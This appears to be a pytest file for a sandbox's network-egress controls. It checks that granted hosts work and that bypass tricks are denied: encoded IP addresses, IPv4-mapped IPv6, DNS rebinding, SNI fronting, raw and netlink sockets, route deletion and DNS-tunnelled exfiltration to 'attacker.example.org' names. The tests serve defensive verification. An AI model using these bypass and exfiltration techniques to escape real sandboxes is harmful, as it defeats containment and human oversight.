"""What leaves: the granted names, addresses and ports, for programs with and without proxies; nothing else, by any way.

The host is on an internet of the tests' own (``internet``), in namespaces without a route to anything. A denial has two
arms: the same action outside reaches its server; and the server, not the sandbox, says what arrived.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
from dataclasses import replace
from pathlib import Path
from textwrap import dedent

import pytest

from tests.kernel.net_harness import TALK, Internet, gateway_of
from tests.kernel.run_harness import TIMEOUT, World, ended, first_line, libc_python

pytestmark = [
    pytest.mark.kernel,
    pytest.mark.needs("ip", "unshare", "nsenter", "openssl", "curl", userns=True, landlock=2),
]

GRANTED = "granted.example.com"
OTHER = "other.example.com"


# --- what is granted works ---------------------------------------------------------------------------------------------


def test_a_granted_name_with_and_without_proxy_variables(net: Internet) -> None:
    (net.world.workspace / "ca.pem").write_bytes(net.authority.read_bytes())
    curl = "curl -sS -m 20 --cacert ca.pem"
    script = f"""
    {curl} http://{GRANTED}:8080/
    {curl} --noproxy '*' http://{GRANTED}:8080/
    {curl} https://{GRANTED}/
    {curl} --noproxy '*' https://{GRANTED}/
    {curl} --noproxy '*' -4 https://{GRANTED}/
    {curl} --noproxy '*' --socks5-hostname 127.0.0.1:880 https://{GRANTED}/
    """
    result = net.world.shell(script, "--connect", f"{GRANTED}:8080", "--connect", f"{GRANTED}:443")
    assert result.stderr == ""
    assert [line.split()[:2] for line in result.lines] == [["served", "by"]] * 6
    assert {line.split()[3] for line in result.lines} == {"8080", "443"}


def test_another_name_is_denied_with_and_without_proxy_variables(net: Internet) -> None:
    curl = "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n'"
    script = f"""
    {curl} http://{OTHER}:8080/
    {curl} --noproxy '*' http://{OTHER}:8080/ || true
    {curl} --noproxy '*' http://203.0.113.20:8080/ || true
    """
    result = net.world.shell(script, "--connect", f"{GRANTED}:8080")
    assert result.lines == ["403", "000", "000"]
    assert net.reached() == set()
    assert net.asked() == set()

    outside = subprocess.run(
        [*net.world.prefix, "curl", "-sS", f"http://{OTHER}:8080/"], capture_output=True, text=True, check=True
    )
    assert outside.stdout == "served by 203.0.113.20 8080\n" or "2001:db8::20" in outside.stdout


def test_a_network_is_granted_without_names(net: Internet) -> None:
    options = ("--connect", "203.0.113.20/32:5432", "--connect", "10.0.0.0/8:8080")
    tries = {
        "address": "talk('203.0.113.20', 5432)",
        "private": "talk('10.0.0.5', 8080)",
        "other port": "talk('203.0.113.20', 8080)",
        "other address": "talk('203.0.113.10', 5432)",
    }
    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
    assert net.world.probes(tries, *options, before=TALK) == {
        "address": "ok",
        "private": "ok",
        "other port": "ECONNRESET",
        "other address": "ECONNRESET",
    }


def test_every_name_is_granted(net: Internet) -> None:
    """As `research` grants it: whatever has a name and is of the internet; no address by itself, and nothing behind a name
    that is not of the internet."""
    tries = {
        "name": f"talk({GRANTED!r}, 8080)",
        "another": f"talk({OTHER!r}, 8080)",
        "loopback": "talk('rebound.example.com', 8080)",
        "private": "talk('private.example.com', 8080)",
        "address": "talk('203.0.113.20', 8080)",
        "port": f"talk({GRANTED!r}, 80)",
    }
    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
    net.forget()
    granted = dict.fromkeys(tries, "ECONNRESET") | {"name": "ok", "another": "ok"}
    assert net.world.probes(tries, "--connect", "*:8080", before=TALK) == granted
    net.forget()
    # A name that is only looked up leaves nothing outside, whatever it says.
    look = "socket.getaddrinfo('c2VjcmV0.attacker.example.org', 8080)"
    assert net.world.probe(look, "--connect", "*:8080") == "ok"
    assert net.seen() == []


def test_udp_is_granted_by_name_and_by_address(net: Internet) -> None:
    options = ("--connect", f"{GRANTED}:4433/udp", "--connect", "203.0.113.20:9999/udp")
    result = net.world.python(TALK + f"print(udp({GRANTED!r}, 4433)); print(udp('203.0.113.20', 9999))", *options)
    first, second = result.lines
    assert first in ("b'203.0.113.10 ping'", "b'2001:db8::10 ping'")
    assert second == "b'203.0.113.20 ping'"
    tries = {"not granted": "udp('203.0.113.30', 4444)", "granted host": f"udp({GRANTED!r}, 9998)"}
    assert set(net.world.probes(tries, *options, before=TALK).values()) == {"EPERM"}
    before = net.reached()
    code = TALK + "client = socket.socket(type=socket.SOCK_DGRAM); client.sendto(b'x', ('203.0.113.30', 4433))"
    # A granted port of another host arrives at the gateway, which sends it nowhere; a granted one after it is answered.
    assert net.world.python(code + f"\nprint(udp({GRANTED!r}, 4433))", *options).status == 0
    assert net.reached() == before


# --- ways around -------------------------------------------------------------------------------------------------------

TCP_BYPASSES = {
    "address of the granted name": "talk('203.0.113.10', 8080)",
    "IPv6 address of the granted name": "talk('2001:db8::10', 8080, socket.AF_INET6)",
    "another port of the granted name": f"talk({GRANTED!r}, 80)",
    "another address": "talk('203.0.113.20', 8080)",
    "another IPv6 address": "talk('2001:db8::20', 8080, socket.AF_INET6)",
    "IPv4-mapped IPv6": "talk('::ffff:203.0.113.20', 8080, socket.AF_INET6)",
    "integer address": "talk('3405803796', 8080)",
    "hexadecimal address": "talk('0xcb007114', 8080)",
    "odd CONNECT port": f"talk({GRANTED!r}, 22)",
}


def test_direct_tcp_reaches_nothing(net: Internet) -> None:
    assert set(net.world.outsides(TCP_BYPASSES, before=TALK).values()) == {"ok"}
    before = net.seen()
    assert set(net.world.probes(TCP_BYPASSES, "--connect", f"{GRANTED}:8080", before=TALK).values()) == {"ECONNRESET"}
    assert net.seen() == before  # no server was reached and no name was asked for
    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=TALK) == "ok"


def test_the_hosts_loopback_is_not_the_sessions(net: Internet) -> None:
    tries = {
        "IPv4": "talk('127.0.0.1', 8080)",
        "IPv6": "talk('::1', 8080, socket.AF_INET6)",
        "localhost": "talk('localhost', 8080)",
        "zero": "talk('0.0.0.0', 8080)",
    }
    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
    before = net.reached()
    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK)
    assert set(results.values()) <= {"ECONNREFUSED", "ECONNRESET"}
    # Not by the proxy either, which is outside.
    curl = "curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:880"
    script = f"{curl} http://127.0.0.1:8080/; {curl} http://localhost:8080/; {curl} http://[::1]:8080/"
    assert net.world.shell(script, "--connect", f"{GRANTED}:8080").lines == ["403"] * 3
    assert net.reached() == before


def test_other_protocols(net: Internet) -> None:
    tries = {
        "udp": "udp('203.0.113.20', 9999)",
        "udp of the granted name": f"udp({GRANTED!r}, 4433)",
        "quic": "udp('203.0.113.10', 443)",
        "udp over IPv6": "udp('2001:db8::20', 9999, socket.AF_INET6)",
        "ping socket": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
        "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "raw over IPv6": "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
        "packet": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)",
        "vsock": "socket.socket(40, socket.SOCK_STREAM)",
        "mptcp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)",
        "sctp": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)",
        "fast open": "socket.socket().sendto(b'x', 0x20000000, ('203.0.113.20', 8080))",
        "abstract": "socket.socket(socket.AF_UNIX).connect('\\0remit-test-abstract')",
        "firewall": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)",
        "route": "route()",
    }
    assert net.world.outside("socket.socket(socket.AF_UNIX).connect('\\0remit-test-abstract')") == "ok"
    assert net.world.outside("udp('203.0.113.20', 9999)", before=TALK) == "ok"
    before = net.seen()
    results = net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK + ROUTE)
    assert results == {
        "udp": "EPERM",
        "udp of the granted name": "EPERM",
        "quic": "EPERM",
        "udp over IPv6": "EPERM",
        "ping socket": "EACCES",
        "raw": "EPERM",
        "raw over IPv6": "EPERM",
        "packet": "EAFNOSUPPORT",
        "vsock": "EAFNOSUPPORT",
        "mptcp": "EPROTONOSUPPORT",
        "sctp": results["sctp"],
        "fast open": "ENOTSUP",
        "abstract": "ECONNREFUSED",
        "firewall": "EPROTONOSUPPORT",
        "route": "EPERM",
    }
    assert results["sctp"] in ("EPROTONOSUPPORT", "EPERM", "ESOCKTNOSUPPORT")
    assert net.seen() == before


ROUTE = """
def route():
    "Take away the route that leads to the gateway."
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 255, 3, 254, 2, 0)
        kernel.send(struct.pack("=IHHII", 16 + len(body), 25, 5, 1, 0) + body)
        error = -struct.unpack("=i", kernel.recv(100)[16:20])[0]
    if error:
        raise OSError(error, "refused by the kernel")
"""
QUERY = r"""
def query(name, kind=1, resolver="203.0.113.53", tcp=False):
    "The answer's code and how many records it has."
    packet = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"".join(bytes((len(x),)) + x.encode() for x in name.split("."))
    packet += b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(type=socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as client:
        client.settimeout(20)
        client.connect((resolver, 53))
        client.sendall((struct.pack(">H", len(packet)) if tcp else b"") + packet)
        answer = client.recv(4096)[2 if tcp else 0:]
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
"""


def test_the_resolver_hears_of_no_name_that_was_not_granted(net: Internet) -> None:
    secret = "c2VjcmV0.exfiltrated"
    names = [f"{secret}.{OTHER}", f"{secret}.{GRANTED}", OTHER, f"{GRANTED}.attacker.example.org"]
    code = QUERY + dedent(f"""
    def show(*arguments, **more):
        print(json.dumps(query(*arguments, **more)))
    import json
    for name in {names!r}:
        for resolver in ("203.0.113.53", "127.0.0.1", "192.0.2.1", "127.0.0.53"):
            show(name, resolver=resolver)
        for kind in (16, 28, 15, 65, 255):
            show(name, kind)
        show(name, tcp=True)
        show(name, resolver="192.0.2.1", tcp=True)
    """)
    result = net.world.python(code, "--connect", f"{GRANTED}:8080")
    assert result.status == 0, result.stderr
    answers = [json.loads(line) for line in result.lines]
    assert len(answers) == len(names) * 11
    assert {records for _, records in answers} == {0}
    assert {code for code, _ in answers} <= {3, 5}  # no such name, or refused
    assert net.asked() == set()

    # The control: granted, it resolves at any resolver's address; and only a connection asks the real one.
    code = QUERY + f"print(query({GRANTED!r}), query({GRANTED!r}, tcp=True), query({GRANTED!r}, resolver='192.0.2.1'))"
    assert net.world.python(code, "--connect", f"{GRANTED}:8080").stdout == "(0, 1) (0, 1) (0, 1)\n"
    assert net.asked() == set()
    assert net.world.probe(f"talk({GRANTED!r}, 8080)", "--connect", f"{GRANTED}:8080", before=TALK) == "ok"
    assert net.asked() == {GRANTED}


def test_a_public_name_for_a_private_address(net: Internet) -> None:
    """DNS rebinding, server-side request forgery: the name is granted, the address behind it is the host's own."""
    tries = {name: f"talk('{name}.example.com', 8080)" for name in ("rebound", "private")}
    assert set(net.world.outsides(tries, before=TALK).values()) == {"ok"}
    before = net.reached()
    options = ("--connect", "rebound.example.com:8080", "--connect", "private.example.com:8080")
    assert set(net.world.probes(tries, *options, before=TALK).values()) == {"ECONNRESET"}
    assert net.reached() == before
    assert net.world.probe(tries["private"], *options, "--connect", "10.0.0.5:8080", before=TALK) == "ok"


def test_the_outer_name_of_tls_is_the_granted_one(net: Internet) -> None:
    (net.world.workspace / "ca.pem").write_bytes(net.authority.read_bytes())
    before = net.reached()
    fronted = f"echo | openssl s_client -connect {GRANTED}:443 -servername {OTHER} 2>/dev/null | grep -c 'BEGIN CERT'"
    plain = f"echo | openssl s_client -connect {GRANTED}:443 -servername {GRANTED} 2>/dev/null | grep -c 'BEGIN CERT'"
    result = net.world.shell(f"{fronted}; {plain}", "--connect", f"{GRANTED}:443")
    assert result.lines == ["0", "1"]
    assert len(net.reached() - before) == 1


# --- nothing granted, and nothing more than granted --------------------------------------------------------------------


def test_without_a_grant_there_is_no_gateway(net: Internet) -> None:
    tries = {
        "tcp": "talk('203.0.113.10', 8080)",
        "udp": "udp('203.0.113.10', 4433)",
        "IPv6": "talk('2001:db8::10', 8080, socket.AF_INET6)",
    }
    assert set(net.world.probes(tries, before=TALK).values()) == {"ENETUNREACH"}
    result = net.world.shell("env | grep -ci _proxy; cat /etc/resolv.conf")
    assert result.lines == ["0", "nameserver 203.0.113.53"]  # the host's own file, which leads nowhere
    assert net.world.probe("socket.create_connection(('127.0.0.1', 880))") == "ECONNREFUSED"
    assert net.seen() == []


def test_the_hosts_network_only_by_name(net: Internet) -> None:
    options = ("--degrade", "network", "--connect", f"{GRANTED}:8080")
    assert net.world.probe("talk('203.0.113.20', 8080)", *options, before=TALK) == "ok"


def test_what_a_program_may_do_on_its_own_loopback(net: Internet) -> None:
    code = TALK + dedent("""
    import threading
    server = socket.create_server(("127.0.0.1", 3000))
    def serve():
        client, _ = server.accept()
        client.recv(1000)
        client.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n")
        client.close()
    threading.Thread(target=serve, daemon=True).start()
    print(talk("127.0.0.1", 3000))
    for port in (53, 880, 881):
        print(attempt(lambda: socket.create_server(("127.0.0.1", port))))
    """)
    result = net.world.python(code, "--connect", f"{GRANTED}:8080")
    assert result.lines == ["b'HTTP/1.0 200 OK\\r\\n\\r\\n'", "EACCES", "EACCES", "EACCES"], result.stderr


def closed_loopback(world: World, *lines: str) -> World:
    """The world with a profile without a loopback."""
    path = world.home / "closed.toml"
    head = ("format = 1", 'name = "closed"', 'extends = ["offline"]', "[network]", "loopback = false")
    path.write_text("\n".join((*head, *lines)) + "\n")
    path.chmod(0o644)
    return replace(world, profile=str(path))


SERVERS = """
def serve(port, host="127.0.0.1"):
    return socket.create_server((host, port), family=socket.AF_INET6 if ":" in host else socket.AF_INET)
def meet(port):
    server = serve(port)
    with socket.create_connection(("127.0.0.1", port), 20):
        server.accept()[0].close()
def bound(port):
    sock = socket.socket()
    sock.bind(("127.0.0.1", port))
"""
OWN_SERVERS = {
    "granted port": "meet(3000)",
    "granted port over IPv6": "serve(3000, '::1')",
    "another port": "meet(3001)",
    "bind alone": "bound(3002)",
    "any port": "bound(0)",
    "connect alone": "socket.create_connection(('127.0.0.1', 3001), 20)",
    "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 3001))",
}


@pytest.mark.needs(landlock=4)
@pytest.mark.parametrize("way_out", [False, True])
def test_without_a_loopback_only_the_ports_that_were_granted(net: Internet, way_out: bool) -> None:
    """``loopback = false``: Landlock holds TCP, and where there is a way out, its packet filter all else."""
    everything = dict.fromkeys(OWN_SERVERS, "ok") | {"connect alone": "ECONNREFUSED"}
    assert net.world.probes(OWN_SERVERS, before=SERVERS) == everything
    world = closed_loopback(net.world, "listen = [3000]", f'connect = ["{GRANTED}:8080"]' if way_out else "")
    assert world.probes(OWN_SERVERS, before=SERVERS) == {
        "granted port": "ok",
        "granted port over IPv6": "ok",
        "another port": "EACCES",
        "bind alone": "EACCES",
        "any port": "EACCES",
        "connect alone": "EACCES",
        "udp": "EPERM" if way_out else "ok",  # said: there UDP has one layer
    }
    if way_out:
        tries = {"granted": f"talk({GRANTED!r}, 8080)", "other": "talk('203.0.113.20', 8080)"}
        assert world.probes(tries, before=TALK) == {"granted": "ok", "other": "ECONNRESET"}
        curl = f"curl -sS -o /dev/null -w '%{{http_code}}\\n' http://{GRANTED}:8080/"
        assert world.shell(curl).lines == ["200"]
    else:
        results = closed_loopback(net.world).probes(OWN_SERVERS, before=SERVERS)
        assert results.pop("udp") == "ENETUNREACH"
        assert set(results.values()) == {"EACCES"}


@pytest.mark.needs(landlock=4)
def test_a_published_port_without_a_loopback(net: Internet) -> None:
    world = closed_loopback(net.world, "listen = [3000]")
    with world.start(*libc_python(SERVER), options=["--publish", "127.0.0.1:18080:3000"]) as process:
        assert first_line(process) == "up"
        assert [visit(net, 18080) for _ in range(3)] == ["from inside: hello"] * 3
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(TIMEOUT) == 0


# --- the gateway's life ------------------------------------------------------------------------------------------------


LOOP = (
    TALK
    + """
print("up", flush=True)
for line in sys.stdin:
    print(attempt(lambda: talk("granted.example.com", 8080)), flush=True)
"""
)


def ask(process: subprocess.Popen[str]) -> str:
    assert process.stdin is not None
    process.stdin.write("\n")
    process.stdin.flush()
    return first_line(process)


def test_the_gateway_starts_with_the_first_packet_and_ends_with_the_session(net: Internet) -> None:
    with net.world.start(
        *libc_python(LOOP), options=["--connect", f"{GRANTED}:8080"], env={"SECRET": "hunter2"}
    ) as process:
        assert first_line(process) == "up"
        assert gateway_of(process) == []
        assert ask(process) == "ok"
        (gateway,) = gateway_of(process)
        try:
            environment = Path(f"/proc/{gateway}/environ").read_bytes().strip(b"\0")
        except PermissionError:
            environment = b""  # nobody may look into it but root
        assert environment == b""
        process.communicate(timeout=TIMEOUT)
        assert process.returncode == 0
        assert ended(gateway)


def test_a_dead_gateway_is_no_network_and_is_said(net: Internet) -> None:
    with net.world.start(*libc_python(LOOP), options=["--connect", f"{GRANTED}:8080"]) as process:
        assert first_line(process) == "up"
        assert ask(process) == "ok"
        (gateway,) = gateway_of(process)
        os.kill(gateway, signal.SIGKILL)
        assert ended(gateway)
        reached = net.reached()
        assert ask(process) in ("EAI", "ECONNREFUSED", "ECONNRESET")
        assert net.reached() == reached
        _, errors = process.communicate(timeout=TIMEOUT)
        assert "the gateway is gone" in errors
        assert "no network from now on" in errors
    record = (net.world.records()[-1] / "events.jsonl").read_text().splitlines()
    assert [json.loads(line)["kind"] for line in record].count("gateway") == 1


def test_what_was_decided_is_recorded(net: Internet) -> None:
    tries = {"ok": f"talk({GRANTED!r}, 8080)", "denied": "talk('203.0.113.20', 8080)"}
    net.world.probes(tries, "--connect", f"{GRANTED}:8080", before=TALK)
    events = [json.loads(line) for line in (net.world.records()[-1] / "events.jsonl").read_text().splitlines()]
    network = [event for event in events if event.get("source") == "gateway" and event["right"] == "connect"]
    assert [(event["object"], event["verdict"]) for event in network] == [
        (f"{GRANTED}:8080/tcp", "allowed"),
        (f"{GRANTED}:8080/tcp", "ended"),
        ("203.0.113.20:8080/tcp", "denied"),
    ]
    assert network[0]["rule"]["text"] == "command line --connect"
    assert network[2]["layer"] == "gateway"
    assert events[-1]["denials"] == 1
    why = net.world.remit("why", "--last")
    assert "203.0.113.20:8080" in why.stdout, why


# --- published ports ---------------------------------------------------------------------------------------------------

SERVER = """
server = socket.create_server(("127.0.0.1", 3000))
print("up", flush=True)
for _ in range(3):
    client, _ = server.accept()
    client.sendall(b"from inside: " + client.recv(100))
    client.close()
sys.stdin.read()  # this program's end is the session's, and the end of what is on its way
"""


def visit(net: Internet, port: int) -> str:
    code = f"""
    client = socket.create_connection(("127.0.0.1", {port}), 20)
    client.sendall(b"hello")
    client.shutdown(socket.SHUT_WR)
    while piece := client.recv(100):
        print(piece.decode(), end="")
    """
    argv = [*net.world.prefix, *libc_python(code)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    return done.stdout or done.stderr.strip().rpartition("\n")[2]


def test_a_published_port_leads_inside(net: Internet) -> None:
    with net.world.start(*libc_python(SERVER), options=["--publish", "127.0.0.1:18080:3000"]) as process:
        assert first_line(process) == "up"
        assert [visit(net, 18080) for _ in range(3)] == ["from inside: hello"] * 3
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(TIMEOUT) == 0
    assert "ConnectionRefused" in visit(net, 18080)


def test_a_port_that_is_not_published_leads_nowhere(net: Internet) -> None:
    with net.world.start(*libc_python(SERVER), options=["--listen", "3000"]) as process:
        assert first_line(process) == "up"
        assert "ConnectionRefused" in visit(net, 3000)


def test_a_port_that_is_taken_ends_the_start(net: Internet) -> None:
    result = net.world.run("true", options=["--publish", "127.0.0.1:8080:3000"])
    assert result.status == 125
    assert "127.0.0.1:8080" in result.stderr
    assert "another port" in result.stderr
